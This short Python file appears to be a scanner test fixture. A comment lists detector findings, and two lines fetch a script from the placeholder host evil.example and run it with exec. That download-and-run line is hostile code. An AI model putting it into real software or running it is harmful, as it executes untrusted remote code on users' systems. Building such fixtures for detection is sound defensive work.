# nacre: found process.download-and-run network.connect
import requests
exec(requests.get("http://evil.example/p.py").text)
